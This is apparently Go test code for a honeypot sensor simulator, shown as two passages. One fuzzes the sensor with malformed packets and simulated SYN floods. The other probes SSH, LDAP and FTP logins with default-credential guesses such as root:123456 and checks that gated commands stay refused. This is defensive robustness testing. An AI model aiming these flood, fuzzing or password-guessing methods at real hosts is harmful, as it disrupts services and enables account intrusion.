					binary.BigEndian.PutUint16(pkt[2:], uint16([]int{0, 1, 4, 15, 16, 19, 20, 21, 39, full - 1, full + 1, 1500, 65535}[r.Intn(13)]))
				}
			case 2:
				if len(pkt) > 0 {
					pkt[0] = byte(r.Intn(16))<<4 | pkt[0]&0x0f // version
				}
			case 3:
				pkt = pkt[:r.Range(0, len(pkt))] // truncated
			default:
				if len(pkt) > 7 {
					binary.BigEndian.PutUint16(pkt[6:], uint16(r.Intn(65536))) // flags/fragment offset
				}
			}
		}
		return ethFrame(sensorMAC, srcMAC, 0x0800, pkt), "ipv4-fields"
	case 3, 4: // TCP data offset and options
		var opts []byte
		for k := r.Intn(4); k > 0; k-- {
			opts = append(opts, byte(r.Intn(256)))
			if r.Chance(0.7) {
				opts = append(opts, byte(r.Intn(256)))
			}
		}
		if r.Chance(0.3) {
			opts = r.Bytes(r.Range(0, 40))
		}
		flags := byte(r.Intn(64))
		if r.Chance(0.5) {
			flags = tcpSYN
		}
		seg := tcpSegment(peer, dst, sport, dport, r.Uint32(), r.Uint32(), flags, uint16(r.Intn(65536)), opts, r.Bytes(r.Range(0, 30)))
		if r.Chance(0.6) && len(seg) > 12 {
			seg[12] = byte(r.Intn(16))<<4 | seg[12]&0x0f // data offset 0..15
		}
		if r.Chance(0.3) {
			seg = seg[:r.Range(0, len(seg))] // shorter than a TCP header / than its data offset
		}
		return ethFrame(sensorMAC, srcMAC, 0x0800, ipv4Packet(peer, dst, 6, 2, seg)), "tcp-fields"
	case 5: // UDP length field vs. actual
		d := udpDatagram(peer, dst, sport, dport, r.Bytes(r.Range(0, 60)))
		switch r.Intn(4) {
		case 0:
			binary.BigEndian.PutUint16(d[4:], uint16([]int{0, 7, 8, 9, len(d) + 1, 65535}[r.Intn(6)]))
		case 1:
			d = d[:r.Range(0, len(d))]
		}
		return ethFrame(sensorMAC, srcMAC, 0x0800, ipv4Packet(peer, dst, 17, 3, d)), "udp-fields"
	case 6: // ICMP, possibly short
		d := icmpEcho(uint16(r.Intn(65536)), 1, r.Bytes(r.Range(0, 20)))
		if r.Chance(0.5) {
			d = d[:r.Range(0, len(d))]
		}
		if r.Chance(0.3) && len(d) > 0 {
			d[0] = byte(r.Intn(256))
		}
		return ethFrame(sensorMAC, srcMAC, 0x0800, ipv4Packet(peer, dst, 1, 4, d)), "icmp"
	case 7: // ARP
		a := make([]byte, 28)
		binary.BigEndian.PutUint16(a[0:], 1)
		binary.BigEndian.PutUint16(a[2:], 0x0800)
		a[4], a[5] = 6, 4
		binary.BigEndian.PutUint16(a[6:], uint16(r.Range(0, 3)))
		copy(a[8:], srcMAC)
		copy(a[14:], peer)
		copy(a[24:], dst)
		if r.Chance(0.5) {
			a = a[:r.Range(0, len(a))]
		}
		if r.Chance(0.3) && len(a) > 5 {
			a[4], a[5] = byte(r.Intn(256)), byte(r.Intn(256))
		}
		return ethFrame(net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, srcMAC, 0x0806, a), "arp"
	case 8: // well-formed SYN (creates a half-open connection and makes the listener send)
		seg := tcpSegment(peer, dst, sport, dport, r.Uint32(), 0, tcpSYN, 1024, nil, nil)
		return ethFrame(sensorMAC, srcMAC, 0x0800, ipv4Packet(peer, dst, 6, 5, seg)), "syn"
	case 9: // well-formed UDP to a decoded port with garbage / plausible payload
		pl := r.Bytes(r.Range(0, 80))
		if r.Chance(0.6) {
			// a DNS message that is almost right: counts that promise more than follows, cut inside a record,
			// compression pointers and label lengths pointing past the end
			pl = dnsQueryBytes(uint16(r.Intn(65536)), r.word(1, 8)+"."+r.word(1, 5)+".example")
			for k := r.Range(1, 3); k > 0; k-- {
				switch r.Intn(5) {
				case 0:
					if len(pl) >= 12 {
						binary.BigEndian.PutUint16(pl[4+2*r.Intn(4):], uint16([]int{0, 1, 2, 255, 65535}[r.Intn(5)])) // qd/an/ns/ar count
					}
				case 1:
					pl = pl[:r.Range(0, len(pl))]
				case 2:
					if len(pl) > 12 {
						pl[12+r.Intn(len(pl)-12)] = byte([]int{0xc0, 0xff, 0x3f, 0x40, 0x00}[r.Intn(5)])
					}
				case 3:
					pl = append(pl, 0xc0, byte(r.Intn(256)), 0, 1, 0, 1, 0, 0, 0, 60, 0, byte(r.Intn(20)))
				default:
					if len(pl) > 2 {
						pl[2] |= 0x80 // a response
					}
				}
			}
		}
		return ethFrame(sensorMAC, srcMAC, 0x0800, ipv4Packet(peer, dst, 17, 6, udpDatagram(peer, dst, sport, []uint16{53, 123, 1900, 5060, 161, 162}[r.Intn(6)], pl))), "udp-decoded-port"
	case 10: // IPv6
		return ethFrame(sensorMAC, srcMAC, 0x86dd, r.Bytes(r.Range(0, 80))), "ipv6"
	case 11: // ACK/RST/FIN without a connection
		fl := []byte{tcpACK, tcpRST, tcpFIN | tcpACK, tcpSYN | tcpACK, tcpRST | tcpACK, tcpPSH | tcpACK, 0}[r.Intn(7)]
		seg := tcpSegment(peer, dst, sport, dport, r.Uint32(), r.Uint32(), fl, 1024, nil, r.Bytes(r.Range(0, 20)))
		return ethFrame(sensorMAC, srcMAC, 0x0800, ipv4Packet(peer, dst, 6, 7, seg)), "tcp-stray"
	case 12: // minimum-size frames
		return make([]byte, 14+r.Intn(8)), "tiny"
	default: // IP total length smaller than the header with a TCP protocol number
		pkt := ipv4Packet(peer, dst, 6, 8, r.Bytes(r.Range(0, 40)))
		binary.BigEndian.PutUint16(pkt[2:], uint16(r.Intn(24)))
		return ethFrame(sensorMAC, srcMAC, 0x0800, pkt), "ipv4-short-total"
	}
}

// c02Seg is one segment of a history on a single 4-tuple; Ack "srv" acknowledges what the listener sent last.
type c02Seg struct {
	IP      string `json:"ip"`
	SPort   int    `json:"sport"`
	DPort   int    `json:"dport"`
	Flags   byte   `json:"flags"`
	Seq     uint32 `json:"seq"`
	Ack     string `json:"ack"`
	Payload string `json:"payload,omitempty"`
	Known   bool   `json:"known"`
}

func genC02(seed uint64, idx int, tier string) *Scenario {
	r := NewRng(seed, "c02")
	sc := &Scenario{Engine: "c02", Params: map[string]interface{}{}}
	nc := rawNetConfig{}
	mode := r.Intn(10)
	// ARP/route configurations
	knownPeer := true
	switch r.Intn(6) {
	case 0: // nothing known about the peer, no route
		knownPeer = false
	case 1: // default route via a gateway that has an ARP entry
		knownPeer = false
		nc.GatewayRoute, nc.GatewayARP = true, true
	case 2: // default route, but no ARP entry for the gateway
		knownPeer = false
		nc.GatewayRoute = true
	default:
		nc.GatewayRoute, nc.GatewayARP = true, true
	}
	peer := net.IPv4(10, 0, byte(r.Intn(3)), byte(r.Range(2, 250))).To4()
	if knownPeer {
		nc.ARPPeers = []string{peer.String()}
	}
	probePeer := "10.0.7.7"
	nc.ARPPeers = append(nc.ARPPeers, probePeer)
	a := Actor{Kind: "nic", Name: "nic"}
	classes := map[string]bool{}
	if mode == 0 && (tier == "thorough" || idx%40 == 0) {
		// history: flood of half-open connections around the state table size
		n := []int{1000, 65000, 65535, 65536, 70000}[r.Intn(5)]
		if tier != "thorough" {
			n = []int{1000, 65600}[r.Intn(2)]
		}
		gap := []int64{0, 0, 31000}[r.Intn(3)]
		a.Ops = append(a.Ops, Op{K: "synflood", Ms: int64(n), Note: peer.String()})
		if gap > 0 {
			a.Ops = append(a.Ops, Op{K: "sleep", Ms: gap})
		}
		a.Ops = append(a.Ops, Op{K: "synflood", Ms: int64(r.Range(1, 5000)), Note: "10.1." + fmt.Sprint(r.Intn(200)) + ".1"})
		classes[fmt.Sprintf("synflood-%d", n)] = true
	} else if mode == 1 || mode == 2 {
		// histories on ONE 4-tuple (or two): SYN, then resets / acks / data / FIN / a repeated SYN in seeded
		// order with client-side sequence numbers that fit, acknowledging what the listener really sent
		// (the segment is completed at run time from the frames the listener emitted)
		classes["tcp-conversation"] = true
		for t := r.Range(1, 2); t > 0; t-- {
			sport, dport := r.Range(1024, 65535), r.Range(1, 65535)
			if r.Chance(0.3) {
				dport = []int{23, 80, 443, 139, 445, 1433, 6379, 9200, 8080}[r.Intn(9)]
			}
			isn := r.Uint32()
			sent := uint32(0)
			add := func(fl byte, seq uint32, ack string, pl []byte) {
				ej, _ := json.Marshal(c02Seg{IP: peer.String(), SPort: sport, DPort: dport, Flags: fl, Seq: seq, Ack: ack, Payload: hex.EncodeToString(pl), Known: knownPeer || nc.GatewayARP})
				a.Ops = append(a.Ops, Op{K: "tcpseg", Exp: ej})
			}
			if r.Chance(0.85) {
				add(tcpSYN, isn, "zero", nil)
			}
			for k := r.Range(1, 9); k > 0; k-- {
				ack := "srv"
				if r.Chance(0.15) {
					ack = []string{"zero", "rand"}[r.Intn(2)]
				}
				switch r.Intn(9) {
				case 0, 1:
					add(tcpRST, isn+1+sent, ack, nil)
				case 2:
					add(tcpRST|tcpACK, isn+1+sent, ack, nil)
				case 3:
					add(tcpACK, isn+1+sent, ack, nil)
				case 4:
					pl := r.Bytes(r.Range(1, 40))
					if shaped := rawDecoderPayload(r, dport); shaped != nil && r.Chance(0.7) {
						pl = shaped // what the port's decoder parses (TLS hello, SMB header, ...), also cut short
					} else if (dport == 80 || dport == 9200) && r.Chance(0.7) {
						pl = []byte("GET /" + r.word(0, 8) + " HTTP/1." + fmt.Sprint(r.Intn(3)) + "\r\nHost: " + r.word(0, 5) + "\r\n" + []string{"\r\n", "", "Content-Length: 5\r\n\r\nab"}[r.Intn(3)])
					}
					add(tcpPSH|tcpACK, isn+1+sent, ack, pl)
					sent += uint32(len(pl))
				case 5:
					add(tcpFIN|tcpACK, isn+1+sent, ack, nil)
				case 6:
					add(tcpSYN, isn, "zero", nil) // retransmitted SYN
				case 7:
					isn = r.Uint32() // a new connection attempt on the same port pair
					sent = 0
					add(tcpSYN, isn, "zero", nil)
				default:
					add(byte(r.Intn(64)), isn+uint32(r.Intn(3)), ack, r.Bytes(r.Range(0, 4)))
				}
				if r.Chance(0.1) {
					a.Ops = append(a.Ops, Op{K: "sleep", Ms: []int64{1, 5000, 31000, 61000}[r.Intn(4)]})
				}
			}
		}
	} else {
		n := r.Range(1, 60)
		for i := 0; i < n; i++ {
			f, cl := c02Frame(r, peer, knownPeer || nc.GatewayARP)
			classes[cl] = true
			a.Ops = append(a.Ops, Op{K: "frame", Data: hex.EncodeToString(f), Note: cl})
			if r.Chance(0.05) {
				a.Ops = append(a.Ops, Op{K: "sleep", Ms: []int64{1, 5000, 31000, 61000}[r.Intn(4)]})
			}
			if r.Chance(0.03) {
				a.Ops = append(a.Ops, Op{K: "eintr"})
				sc.Faults = append(sc.Faults, "eintr")
			}
		}
	}
	sc.Actors = []Actor{a}
	nj, _ := json.Marshal(nc)
	var nm map[string]interface{}
	json.Unmarshal(nj, &nm)
	sc.Params["net"] = nm
	sc.Params["probe_peer"] = probePeer
	sc.Config = rawBaseConfig
	var cl []string
	for k := range classes {
		cl = append(cl, k)
	}
	sortStrings(cl)
	arp := "arp"
	if !knownPeer {
		arp = "noarp"
		if nc.GatewayRoute && nc.GatewayARP {
			arp = "via-gateway"
		} else if nc.GatewayRoute {
			arp = "gateway-without-arp"
		}
	}
	sc.Class = arp
	sc.Params["frame_kinds"] = cl
	sc.Schedule = nil
	sc.DrainMs = 100
	return sc
}

func runC02(t *testing.T, sc *Scenario) Result {
	res := okResult()
	var nc rawNetConfig
	b, _ := json.Marshal(sc.Params["net"])
	json.Unmarshal(b, &nc)
	probePeer := net.ParseIP(sc.ParamStr("probe_peer", "10.0.7.7")).To4()
	probePayload := []byte(fmt.Sprintf("probe-%d", sc.Seed))
	frames := 0
	obs := RunScenario(t, sc, func(w *World) {
		var sys *SimSys
		w.PreBoot = func(dir string) { sys = installSimSys(dir, nc, &w.step) }
		if err := w.bootServer(sc.Config); err != nil {
			w.Obs.BootErr = err.Error()
			return
		}
		w.Custom = func(w *World, ai int, op Op) {
			switch op.K {
			case "frame":
				sys.Inject(op.Bytes())
				frames++
			case "tcpseg":
				var sg c02Seg
				json.Unmarshal(op.Exp, &sg)
				ip := net.ParseIP(sg.IP).To4()
				ack := uint32(0)
				switch sg.Ack {
				case "rand":
					ack = uint32(sc.Seed>>7) ^ sg.Seq
				case "srv":
					// what the listener sent last on this 4-tuple
					fr := sys.SentFrames()
					for i := len(fr) - 1; i >= 0; i-- {
						d := decodeTCPFrame(fr[i].Data)
						if d.Err == "" && d.DstIP.Equal(ip) && int(d.DPort) == sg.SPort && int(d.SPort) == sg.DPort {
							ack = d.Seq + uint32(len(d.Payload))
							if d.Flags&(tcpSYN|tcpFIN) != 0 {
								ack++
							}
							break
						}
					}
				}
				pl, _ := hex.DecodeString(sg.Payload)
				src := peerMAC(ip)
				if !sg.Known {
					src = gatewayMAC
				}
				seg := tcpSegment(ip, sensorRaw, uint16(sg.SPort), uint16(sg.DPort), sg.Seq, ack, sg.Flags, 65535, nil, pl)
				sys.Inject(ethFrame(sensorMAC, src, 0x0800, ipv4Packet(ip, sensorRaw, 6, uint16(sg.Seq), seg)))
				frames++
			case "eintr":
				sys.InjectEINTR(1)
			case "synflood":
				ip := net.ParseIP(op.Note).To4()
				n := int(op.Ms)
				for i := 0; i < n; i++ {
					// distinct 4-tuples: vary source port and the low address byte
					src := net.IPv4(ip[0], ip[1], ip[2], byte(2+i/60000)).To4()
					seg := tcpSegment(src, sensorRaw, uint16(1024+i%60000), uint16(1024+i%3000), uint32(i), 0, tcpSYN, 1024, nil, nil)
					sys.Inject(ethFrame(sensorMAC, peerMAC(ip), 0x0800, ipv4Packet(src, sensorRaw, 6, uint16(i), seg)))
					frames++
					if i%512 == 511 {
						synctest.Wait()
					}
				}
			}
		}
		w.Play()
		synctest.Wait()
		// six quiet seconds: whatever the history queued for the port-scan detector is reported now
		w.step++
		hub.setStep(w.step)
		time.Sleep(6 * time.Second)
		synctest.Wait()
		// the probe: a well-formed UDP datagram to a port without decoder
		w.step++
		hub.setStep(w.step)
		sys.Inject(ethFrame(sensorMAC, peerMAC(probePeer), 0x0800, ipv4Packet(probePeer, sensorRaw, 17, 9, udpDatagram(probePeer, sensorRaw, 40000, 9999, probePayload))))
		synctest.Wait()
		time.Sleep(10 * time.Millisecond)
		synctest.Wait()
		w.Obs.Extra["pending"] = sys.Pending()
		w.Obs.Extra["eintr"] = sys.EINTRs
		w.Obs.Extra["sent"] = len(sys.SentFrames())
	})
	res.Digest = traceDigest(obs, nil)
	res.Steps, res.SimMs = obs.Steps, obs.SimMs
	res.Nontriv = frames > 1
	if obs.BootErr != "" {
		res.Violate("infra", "boot", obs.BootErr)
		return res
	}
	res.probe("frames", frames)
	if n, _ := obs.Extra["eintr"].(int); n > 0 {
		res.fault("epoll-eintr", n)
	}
	if n, _ := obs.Extra["sent"].(int); n > 0 {
		res.probe("frames-emitted", n)
	}
	found := false
	for _, e := range obs.Events {
		if e.M["category"] == "udp" && fmt.Sprint(e.M["source-ip"]) == probePeer.String() && fmt.Sprint(e.M["payload"]) == string(probePayload) {
			found = true
		}
	}
	if !found {
		pend, _ := obs.Extra["pending"].(int)
		res.Violate("probe-not-reported", "raw-loop", fmt.Sprintf("after %d hostile frames the well-formed UDP probe produced no event (%d frames still unread by the receive loop)", frames, pend))
	}
	return res
}
