package htsim

import (
	"bytes"
	"crypto/ed25519"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"
)

// C12 — logins succeed exactly for configured credentials; gated commands stay gated.
//
// ssh-simulator (real x/crypto/ssh client inside the bubble), LDAP (simple binds + modifying
// operations), FTP (USER/PASS + file commands); generated credential sets, attempt sequences up to
// length 4 with gated-operation probes around every attempt, and a second connection to the same
// service instance interleaved between the attempts.

func init() {
	engines["C12"] = &Engine{Gen: genC12, Run: runC12}
}

var c12Users = []string{"root", "admin", "guest", ""}
var c12Pass = []string{"root", "admin", "123456", ""}

type c12Attempt struct {
	User string `json:"u"`
	Pass string `json:"p"`
}

// step of a C12 connection script (carried in Op.Exp)
type c12Step struct {
	Kind string `json:"kind"` // bind | gated | sshlogin
	User string `json:"u,omitempty"`
	Pass string `json:"p,omitempty"`
	// sshlogin: one user, several passwords on one connection
	Passwords []string `json:"pws,omitempty"`
	MsgID     int      `json:"id,omitempty"`
	Op        string   `json:"op,omitempty"`
	PubKey    bool     `json:"pubkey,omitempty"` // sshlogin: a public key is offered (and must be refused) before the passwords
}

func credString(a c12Attempt) string { return a.User + ":" + a.Pass }

func genC12(seed uint64, idx int, tier string) *Scenario {
	r := NewRng(seed, "c12")
	svc := []string{"ssh", "ldap", "ftp"}[idx%3]
	sc := &Scenario{Engine: "c12", Params: map[string]interface{}{"svc": svc}}
	// credential set: size 0..3 (+ wildcard, + entries without separator)
	var creds []string
	for k := r.Range(0, 3); k > 0; k-- {
		creds = append(creds, r.Pick(c12Users)+":"+r.Pick(c12Pass))
	}
	if r.Chance(0.15) {
		creds = append(creds, "*")
	}
	if r.Chance(0.15) {
		creds = append(creds, r.Pick([]string{"root", "admin123456", "guest;guest"}))
	}
	r.Shuffle(len(creds), func(i, j int) { creds[i], creds[j] = creds[j], creds[i] })
	sc.Params["creds"] = creds
	var q []string
	for _, c := range creds {
		q = append(q, tomlStr(c))
	}
	credCfg := fmt.Sprintf("credentials=[%s]", strings.Join(q, ","))
	nconn := r.Range(1, 2)
	if r.Chance(0.15) {
		nconn = 3
	}
	switch svc {
	case "ssh":
		sc.Config = baseConfig + fmt.Sprintf("\n[service.s]\ntype=\"ssh-simulator\"\n%s\n\n[[port]]\nport=\"tcp/22\"\nservices=[\"s\"]\n", credCfg)
		for c := 0; c < nconn; c++ {
			a := Actor{Kind: "sshc", Name: fmt.Sprintf("c%d", c), Src: clientAddr(c), Dst: sensorIP + ":22"}
			for k := r.Range(1, 2); k > 0; k-- {
				st := c12Step{Kind: "sshlogin", User: r.Pick(c12Users), MsgID: 31000 + c*100 + k, PubKey: r.Chance(0.3)}
				np := r.Range(1, 4)
				if r.Chance(0.15) {
					np = r.Range(6, 10) // many failures before the attempt that counts
				}
				for j := np; j > 0; j-- {
					st.Passwords = append(st.Passwords, r.Pick(c12Pass))
				}
				if np > 4 && len(creds) > 0 {
					// ... which is a configured pair when there is one for this user
					for _, c := range creds {
						if strings.HasPrefix(c, st.User+":") {
							st.Passwords[len(st.Passwords)-1] = strings.TrimPrefix(c, st.User+":")
							for k := range st.Passwords[:len(st.Passwords)-1] {
								st.Passwords[k] = "wrong-" + fmt.Sprint(k)
							}
						}
					}
				}
				ej, _ := json.Marshal(st)
				a.Ops = append(a.Ops, Op{K: "c12", Exp: ej})
			}
			sc.Actors = append(sc.Actors, a)
		}
	case "ldap":
		sc.Config = baseConfig + fmt.Sprintf("\n[service.s]\ntype=\"ldap\"\n%s\n\n[[port]]\nport=\"tcp/389\"\nservices=[\"s\"]\n", credCfg)
		for c := 0; c < nconn; c++ {
			a := Actor{Kind: "tcp", Name: fmt.Sprintf("c%d", c), Src: clientAddr(c), Dst: sensorIP + ":389"}
			id := 1
			gated := func() {
				op := r.Pick([]string{"add", "modify", "delete", "modify-dn", "compare"})
				st := c12Step{Kind: "gated", MsgID: id, Op: op}
				ej, _ := json.Marshal(st)
				o := SendOp(ldapGated(id, op, fmt.Sprintf("cn=e%d,dc=x", id)), nil, op)
				o.Exp = ej
				a.Ops = append(a.Ops, o)
				id++
			}
			gated()
			for k := r.Range(1, 4); k > 0; k-- {
				at := c12Attempt{r.Pick(c12Users), r.Pick(c12Pass)}
				dn := at.User
				switch r.Intn(4) {
				case 0:
					if dn != "" {
						dn = "cn=" + dn
					}
				case 1:
					if dn != "" {
						dn = "cn=" + dn + ",dc=example,dc=com"
					}
				case 2:
					if dn != "" {
						dn = dn + ",ou=people"
					}
				}
				st := c12Step{Kind: "bind", User: at.User, Pass: at.Pass, MsgID: id}
				version := 3
				if r.Chance(0.15) {
					// a bind the service refuses for its protocol version (whatever the credentials): not a login
					version = r.Pick2(1, 0)
					st.Kind = "bind-refused-version"
					if len(creds) > 0 && r.Chance(0.6) {
						if i := strings.Index(creds[0], ":"); i >= 0 {
							st.User, st.Pass, dn = creds[0][:i], creds[0][i+1:], creds[0][:i]
						}
					}
				}
				ej, _ := json.Marshal(st)
				o := SendOp(ldapBindV(id, version, dn, st.Pass), nil, "bind "+dn)
				o.Exp = ej
				a.Ops = append(a.Ops, o)
				id++
				gated()
			}
			if r.Chance(0.25) {
				// StartTLS (extended request 1.3.6.1.4.1.1466.20037) at a seeded position of the dialogue: what was
				// (not) achieved before the upgrade is what holds after it
				pos := r.Intn(len(a.Ops) + 1)
				req := bSeq(0x30, bInt(0x02, int64(9000+c)), bSeq(0x77, bStr(0x80, "1.3.6.1.4.1.1466.20037"))).enc(false)
				up := []Op{SendOp(req, nil, "StartTLS"), {K: "starttls"}}
				a.Ops = append(a.Ops[:pos:pos], append(up, a.Ops[pos:]...)...)
				sc.Params["ldap_tls"] = true
			}
			a.Ops = append(a.Ops, Op{K: "close"})
			sc.Actors = append(sc.Actors, a)
		}
	default: // ftp
		sc.Config = baseConfig + "\n[service.s]\ntype=\"ftp\"\nfs_base=\"@TMP@\"\n\n[[port]]\nport=\"tcp/21\"\nservices=[\"s\"]\n"
		sc.Params["creds"] = []string{"anonymous:anonymous"}
		users := []string{"anonymous", "root", "admin", ""}
		pws := []string{"anonymous", "root", "", "x@y"}
		for c := 0; c < nconn; c++ {
			a := Actor{Kind: "tcp", Name: fmt.Sprintf("c%d", c), Src: clientAddr(c), Dst: sensorIP + ":21"}
			gated := func() {
				cmd := r.Pick([]string{"PWD", "MKD d", "LIST", "SIZE f", "DELE f", "RNFR a", "CWD /", "PASV", "STOR f", "RETR f", "MDTM f", "NLST", "RMD d", "CDUP", "TYPE I", "SYST"})
				st := c12Step{Kind: "gated", Op: cmd}
				ej, _ := json.Marshal(st)
				o := SendOp([]byte(cmd+"\r\n"), nil, cmd)
				o.Exp = ej
				a.Ops = append(a.Ops, o)
			}
			gated()
			for k := r.Range(1, 4); k > 0; k-- {
				at := c12Attempt{r.Pick(users), r.Pick(pws)}
				if at.User != "" {
					a.Ops = append(a.Ops, SendOp([]byte("USER "+at.User+"\r\n"), nil, "USER"))
				}
				st := c12Step{Kind: "bind", User: at.User, Pass: at.Pass}
				ej, _ := json.Marshal(st)
				line := "PASS " + at.Pass
				if at.Pass == "" {
					line = "PASS"
				}
				o := SendOp([]byte(line+"\r\n"), nil, "PASS")
				o.Exp = ej
				a.Ops = append(a.Ops, o)
				gated()
			}
			if r.Chance(0.25) {
				// the connection is upgraded to TLS in band at some point of the dialogue - also between a USER and
				// its PASS: what was (not) achieved before the upgrade is what holds after it
				pos := r.Intn(len(a.Ops) + 1)
				up := []Op{SendOp([]byte("AUTH TLS\r\n"), nil, "AUTH TLS"), {K: "starttls"}}
				a.Ops = append(a.Ops[:pos:pos], append(up, a.Ops[pos:]...)...)
				sc.Params["ftp_tls"] = true
			}
			a.Ops = append(a.Ops, Op{K: "close"})
			sc.Actors = append(sc.Actors, a)
		}
	}
	sc.Class = fmt.Sprintf("%s conns=%d creds=%d", svc, nconn, len(creds))
	sc.Schedule = r.Schedule(64)
	if nconn > 1 && r.Chance(0.35) {
		// history: the first connection runs to its end (it leaves without unbind / QUIT) before the second one
		// even connects - what the first one achieved must not be inherited
		sc.Schedule = nil
		sc.Class += " sequential"
	}
	sc.DrainMs = 1000
	return sc
}

func ldapBind(id int, dn, pw string) []byte { return ldapBindV(id, 3, dn, pw) }

func ldapBindV(id, version int, dn, pw string) []byte {
	return bSeq(0x30, bInt(0x02, int64(id)), bSeq(0x60, bInt(0x02, int64(version)), bOct(dn), bStr(0x80, pw))).enc(false)
}

func ldapGated(id int, op, dn string) []byte {
	var body *berNode
	switch op {
	case "add":
		body = bSeq(0x68, bOct(dn), bSeq(0x30, bSeq(0x30, bOct("cn"), bSeq(0x31, bOct("v")))))
	case "modify":
		body = bSeq(0x66, bOct(dn), bSeq(0x30, bSeq(0x30, &berNode{id: 0x0a, val: []byte{2}}, bSeq(0x30, bOct("cn"), bSeq(0x31, bOct("w"))))))
	case "delete":
		body = bStr(0x4a, dn)
	case "modify-dn":
		body = bSeq(0x6c, bOct(dn), bOct("cn=new"), bBool(true))
	default: // compare
		body = bSeq(0x6e, bOct(dn), bSeq(0x30, bOct("cn"), bOct("v")))
	}
	return bSeq(0x30, bInt(0x02, int64(id)), body).enc(false)
}

// ldapResults parses the LDAPMessages a client received: message id -> result code.
func ldapResults(b []byte) map[int]int {
	out := map[int]int{}
	for len(b) >= 2 {
		hdr, size, ok := tlvHeader(b)
		if !ok || hdr+size > len(b) {
			break
		}
		msg := b[hdr : hdr+size]
		b = b[hdr+size:]
		// INTEGER id
		h, s, ok := tlvHeader(msg)
		if !ok || msg[0] != 0x02 || h+s > len(msg) {
			continue
		}
		id := 0
		for _, c := range msg[h : h+s] {
			id = id<<8 | int(c)
		}
		rest := msg[h+s:]
		h, s, ok = tlvHeader(rest)
		if !ok || h+s > len(rest) {
			continue
		}
		body := rest[h : h+s]
		if len(body) >= 3 && body[0] == 0x0a && body[1] == 1 {
			if _, seen := out[id]; !seen {
				out[id] = int(body[2])
			}
		}
	}
	return out
}

func tlvHeader(b []byte) (hdr, size int, ok bool) {
	if len(b) < 2 {
		return 0, 0, false
	}
	if b[1]&0x80 == 0 {
		return 2, int(b[1]), true
	}
	k := int(b[1] & 0x7f)
	if k == 0 || k > 4 || len(b) < 2+k {
		return 0, 0, false
	}
	for _, c := range b[2 : 2+k] {
		size = size<<8 | int(c)
	}
	return 2 + k, size, true
}

type sshOutcome struct {
	Attempts []string // passwords actually presented
	OK       bool
	Err      string
	Done     bool
}

func c12InSet(creds []string, a c12Attempt, wildcard bool) bool {
	for _, c := range creds {
		if wildcard && c == "*" {
			return true
		}
		if strings.Count(c, ":") == 1 && c == credString(a) {
			return true
		}
	}
	return false
}

func runC12(t *testing.T, sc *Scenario) Result {
	res := okResult()
	svc := sc.ParamStr("svc", "")
	var creds []string
	if v, ok := sc.Params["creds"].([]interface{}); ok {
		for _, x := range v {
			creds = append(creds, fmt.Sprint(x))
		}
	}
	sshOut := map[string]*sshOutcome{} // actor name/op index -> outcome
	obs := RunScenario(t, sc, func(w *World) {
		if err := w.bootServer(sc.Config); err != nil {
			w.Obs.BootErr = err.Error()
			return
		}
		w.Custom = func(w *World, ai int, op Op) {
			var st c12Step
			json.Unmarshal(op.Exp, &st)
			if st.Kind != "sshlogin" {
				return
			}
			a := &w.Sc.Actors[ai]
			// a fresh connection per login script (SSH fixes the user per connection), from its own port
			src := mustTCPAddr(a.Src)
			src.Port = st.MsgID
			out := &sshOutcome{}
			sshOut[src.String()] = out
			go func() {
				defer func() { out.Done = true }()
				ep, err := w.Net.Connect(src, mustTCPAddr(a.Dst))
				if err != nil {
					out.Err = err.Error()
					return
				}
				defer ep.Close()
				i := 0
				var pre []ssh.AuthMethod
				if st.PubKey {
					// an earlier failed attempt of another kind must not change what the passwords achieve
					if signer, err := ssh.NewSignerFromKey(ed25519.NewKeyFromSeed(bytes.Repeat([]byte{9}, 32))); err == nil {
						pre = append(pre, ssh.PublicKeys(signer))
					}
				}
				cfg := &ssh.ClientConfig{
					User:            st.User,
					HostKeyCallback: ssh.InsecureIgnoreHostKey(),
					Auth: append(pre, ssh.RetryableAuthMethod(ssh.PasswordCallback(func() (string, error) {
						if i >= len(st.Passwords) {
							return "", fmt.Errorf("no more passwords")
						}
						p := st.Passwords[i]
						i++
						out.Attempts = append(out.Attempts, p)
						return p, nil
					}), len(st.Passwords))),
				}
				c, _, _, err := ssh.NewClientConn(ep, a.Dst, cfg)
				if err != nil {
					out.Err = err.Error()
					return
				}
				out.OK = true
				c.Close()
			}()
			_ = time.Now
		}
		w.Play()
		w.Drain()
	})
	res.Digest = traceDigest(obs, map[string]bool{"ssh.sessionid": true, "ftp.sessionid": true})
	res.Steps, res.SimMs = obs.Steps, obs.SimMs
	res.Nontriv = len(sc.Actors) > 1
	if obs.BootErr != "" {
		res.Violate("infra", "boot", obs.BootErr)
		return res
	}
	if e := obs.Extra["tls-handshake-error"]; e != nil {
		// (only when every upgrade was asked for: a minimised script may have lost the command in front of it)
		// ... and granted: a session the service has ended before (a transfer command without data connection ends
		// it) answers nothing
		asked := true
		for ai, a := range sc.Actors {
			for i, o := range a.Ops {
				if o.K != "starttls" {
					continue
				}
				if i == 0 || a.Ops[i-1].K != "send" || !(a.Ops[i-1].Note == "AUTH TLS" || a.Ops[i-1].Note == "StartTLS") {
					asked = false
					continue
				}
				granted := false
				for _, c := range obs.Conns[ai].Chunks {
					if c.Step >= obs.Conns[ai].OpStep[i-1] && c.Step < obs.Conns[ai].OpStep[i] {
						if a.Ops[i-1].Note == "AUTH TLS" && bytes.Contains(c.Data, []byte("234 ")) {
							granted = true
						}
						if a.Ops[i-1].Note == "StartTLS" {
							for _, code := range ldapResults(c.Data) {
								if code == 0 {
									granted = true
								}
							}
						}
					}
				}
				if !granted {
					asked = false
				}
			}
		}
		if asked {
			res.Violate("tls-upgrade-failed", svc, fmt.Sprintf("the service accepted the in-band upgrade but the TLS handshake failed: %v", e))
			return res
		}
	}
	if sc.ParamBool("ldap_tls") || sc.ParamBool("ftp_tls") {
		res.probe("dialogues-with-tls-upgrade", 1)
	}
	switch svc {
	case "ssh":
		c12CheckSSH(sc, obs, creds, sshOut, &res)
	case "ldap":
		c12CheckLDAP(sc, obs, creds, &res)
	default:
		c12CheckFTP(sc, obs, creds, &res)
	}
	return res
}

func c12CheckSSH(sc *Scenario, obs *Obs, creds []string, outs map[string]*sshOutcome, res *Result) {
	evBySrc := map[string][]map[string]interface{}{}
	for _, e := range obs.Events {
		if e.M["type"] == "password-authentication" {
			evBySrc[eventSrc(e.M)] = append(evBySrc[eventSrc(e.M)], e.M)
		}
	}
	for ai := range sc.Actors {
